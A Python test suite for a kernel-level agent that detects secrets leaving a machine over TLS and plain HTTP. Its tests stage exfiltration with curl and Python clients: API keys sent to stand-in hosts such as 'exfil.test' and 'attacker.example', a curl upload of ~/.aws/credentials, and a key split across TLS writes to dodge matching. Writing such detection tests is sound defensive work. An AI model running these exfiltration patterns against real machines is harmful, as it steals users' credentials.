"""Secrets leaving over TLS and plain HTTP, seen by the agent on the real kernel (issue 2).

Each test: the agent scoped to the test cgroup, a real client inside it, a server on loopback
that proves the bytes were delivered, then the alert a user would read. Secrets are passed to
clients through files (not argv) unless argv is what the test is about.
"""

import json
import time

from kharness import env
from kharness.servers import sha256
from kharness.users import write_user_file

ALERT_TIMEOUT = 5.0  # "within a few seconds" of the request completing
QUIET_PERIOD = 3.0   # how long "no alert" / "no second alert" is watched for


def _alert_line(agent, alerts) -> str:
    return agent.registry.redact(json.dumps(alerts, indent=1))[:4000]


def _by(provider=None, host=None, comm=None, ip=None):
    def predicate(alert):
        secret, dest, proc = (alert.get(k) or {} for k in ("secret", "destination", "process"))
        return ((provider is None or secret.get("provider") == provider) and
                (host is None or dest.get("host") == host) and
                (ip is None or dest.get("ip") == ip) and
                (comm is None or proc.get("comm") == comm))
    return predicate


def _header_file(scratch, key):
    path = scratch / "headers"
    path.write_text(f"Authorization: Bearer {key}\n")
    return path


def _python_client(pki, server, scratch, mode, name, body: bytes, headers=None, extra=()):
    (scratch / "body.json").write_bytes(body)
    (scratch / "headers.json").write_text(json.dumps(headers or {}))
    return [env.PYTHON, str(env.CLIENTS / "https_client.py"), "--mode", mode, "--name", name,
            "--port", str(server.port), "--cafile", str(pki.ca), "--path", "/v1/messages",
            "--headers-file", str(scratch / "headers.json"),
            "--body-file", str(scratch / "body.json"), *extra]


def test_curl_openai_key_to_unexpected_host_raises_exactly_one_alert(
        agent, clients, https_server, curl, registry, scratch):
    key = registry.new("openai")
    clients.run(curl.https(https_server, "exfil.test", "/v1/chat/completions") +
                ["-H", f"@{_header_file(scratch, key)}", "--data-binary", '{"model":"x"}'])
    done = time.monotonic()
    [req] = https_server.wait_for_requests(1)
    assert req.header_digests.get("authorization") == sha256(f"Bearer {key}")

    alerts = agent.wait_for_alerts(_by(provider="openai"), timeout=ALERT_TIMEOUT)
    assert alerts, f"no openai alert within {ALERT_TIMEOUT}s\n{agent.diagnostics()}"
    latency = time.monotonic() - done
    alert = alerts[0]
    assert alert["destination"]["host"] == "exfil.test", _alert_line(agent, alerts)
    assert alert["destination"]["port"] == https_server.port
    assert alert["process"]["comm"] == "curl"
    assert "api.openai.com" in alert["destination"].get("expected", [])
    assert alert["secret"]["redacted"] and alert["secret"]["fingerprint"]
    assert latency < ALERT_TIMEOUT

    time.sleep(QUIET_PERIOD)  # a duplicate would show up now
    everything = agent.alerts()
    assert len(everything) == 1, f"want exactly one alert:\n{_alert_line(agent, everything)}"


def test_curl_openai_key_to_api_openai_com_raises_no_alert(
        agent, clients, https_server, curl, registry, scratch):
    key = registry.new("openai")
    result = clients.run(curl.https(https_server, "api.openai.com", "/v1/chat/completions") +
                         ["-H", f"@{_header_file(scratch, key)}", "--data-binary", "{}"])
    [req] = https_server.wait_for_requests(1)
    assert (req.sni, req.header_digests.get("authorization")) == (
        "api.openai.com", sha256(f"Bearer {key}"))
    time.sleep(QUIET_PERIOD)
    assert agent.alerts() == [], f"expected destination alerted:\n{agent.diagnostics()}"
    # Silence only means something if the agent saw the request.
    seen = [e for e in agent.trace_events() if e.get("pid") == result.pid]
    assert seen, f"agent received no kernel record from curl pid {result.pid}"


def test_python_urllib_anthropic_key_in_json_to_unexpected_host_alerts(
        agent, clients, https_server, pki, registry, scratch):
    key = registry.new("anthropic")
    body = json.dumps({"model": "claude", "note": "telemetry", "api_key": key}).encode()
    result = clients.run(_python_client(pki, https_server, scratch, "urllib",
                                        "attacker.example", body))
    assert result.stdout.strip() == "status 200"
    [req] = https_server.wait_for_requests(1)
    assert req.body_sha256 == sha256(body)

    alerts = agent.wait_for_alerts(_by(provider="anthropic"), timeout=ALERT_TIMEOUT)
    assert alerts, f"no anthropic alert (python ssl uses SSL_write_ex)\n{agent.diagnostics()}"
    assert alerts[0]["destination"]["host"] == "attacker.example", _alert_line(agent, alerts)
    assert alerts[0]["process"]["comm"].startswith("python3")
    assert alerts[0]["process"]["pid"] == result.pid


def test_curl_uploading_aws_credentials_as_user_alerts_with_the_file(
        agent, clients, https_server, curl, registry, test_user):
    key_id, secret = registry.new("aws-id"), registry.new("aws-secret")
    creds = write_user_file(test_user, ".aws/credentials",
                            f"[default]\naws_access_key_id = {key_id}\n"
                            f"aws_secret_access_key = {secret}\nregion = eu-west-1\n")
    result = clients.run(curl.https(https_server, "exfil.test", "/upload") +
                         ["-T", str(creds)], user=test_user)
    [req] = https_server.wait_for_requests(1)
    assert (req.method, req.body_sha256) == ("PUT", sha256(creds.read_bytes()))

    def names_the_file(alert):
        reads = (alert.get("evidence") or {}).get("credential_reads") or []
        return (_by(host="exfil.test", comm="curl")(alert) and
                any(r.get("path", "").endswith(".aws/credentials") for r in reads))

    alerts = agent.wait_for_alerts(names_the_file, timeout=ALERT_TIMEOUT)
    assert alerts, f"no alert naming ~/.aws/credentials\n{agent.diagnostics()}"
    alert = alerts[0]
    assert alert["process"]["pid"] == result.pid
    assert alert["process"]["uid"] == test_user.uid
    # The secret access key never leaves legitimately, whichever alert carries the file.
    assert agent.wait_for_alerts(_by(provider="aws", host="exfil.test"), timeout=1.0), (
        _alert_line(agent, agent.alerts()))


def test_key_split_across_two_tls_writes_alerts(
        agent, clients, https_server, pki, registry, scratch):
    key = registry.new("openai")
    headers = {"Authorization": f"Bearer {key}"}
    # Cut the request in the middle of the key: no single write holds a matchable key.
    clients.run(_python_client(pki, https_server, scratch, "split", "exfil.test", b"{}", headers,
                               ["--split-mid-header", "Authorization"]))
    [req] = https_server.wait_for_requests(1)
    assert req.header_digests.get("authorization") == sha256(f"Bearer {key}")

    alerts = agent.wait_for_alerts(_by(provider="openai", host="exfil.test"),
                                   timeout=ALERT_TIMEOUT)
    assert alerts, f"key split over two SSL writes not matched\n{agent.diagnostics()}"
    assert alerts[0]["process"]["comm"].startswith("python3")


def test_key_in_plain_http_post_to_loopback_ip_alerts(
        agent, clients, http_server, curl, registry, scratch):
    key = registry.new("openai")
    body = scratch / "body.json"
    body.write_text(json.dumps({"stolen": key}))
    clients.run(curl.http(http_server, "/collect") +
                ["-H", "Content-Type: application/json", "--data-binary", f"@{body}"])
    [req] = http_server.wait_for_requests(1)
    assert req.body_sha256 == sha256(body.read_bytes())

    alerts = agent.wait_for_alerts(_by(provider="openai", ip="127.0.0.1"),
                                   timeout=ALERT_TIMEOUT)
    assert alerts, f"no alert for a plain HTTP POST\n{agent.diagnostics()}"
    assert alerts[0]["destination"]["port"] == http_server.port, _alert_line(agent, alerts)
    assert alerts[0]["process"]["comm"] == "curl"


def test_key_on_curl_command_line_alerts_without_leaking_argv(
        agent, clients, https_server, curl, registry):
    # The commonest exfil one-liner. process.cmdline must come out redacted: the registry's
    # leak check at teardown fails the test if the raw key is in the alert, log or trace.
    key = registry.new("openai")
    clients.run(curl.https(https_server, "exfil.test", "/v1/models") +
                ["-H", f"Authorization: Bearer {key}"])
    https_server.wait_for_requests(1)
    alerts = agent.wait_for_alerts(_by(provider="openai", comm="curl"), timeout=ALERT_TIMEOUT)
    assert alerts, f"no alert\n{agent.diagnostics()}"
    assert "curl" in alerts[0]["process"]["cmdline"]
